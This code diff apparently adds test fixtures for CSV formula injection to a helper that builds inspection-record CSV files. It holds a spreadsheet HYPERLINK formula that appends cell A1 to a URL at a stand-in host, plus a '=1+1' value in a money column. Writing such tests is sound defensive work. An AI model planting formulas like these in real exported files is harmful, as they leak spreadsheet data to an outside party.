@@ -298,3 +298,14 @@ def long_cell_within_limit(chars: int = 20_000) -> bytes:
 
 def many_rows_csv(n: int) -> bytes:
     return csv_bytes(THANHTRA_HEADERS, [thanhtra_row(i) for i in range(1, n + 1)])
+
+
+FORMULA_TEXT = '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")'
+
+
+def formula_text_values() -> bytes:
+    """Text that a spreadsheet would run as a formula, in a text column and in a money column."""
+    return csv_bytes(
+        THANHTRA_HEADERS,
+        [thanhtra_row(1, inspected_entity=FORMULA_TEXT), thanhtra_row(2, violation_vnd="=1+1"), thanhtra_row(3)],
+    )
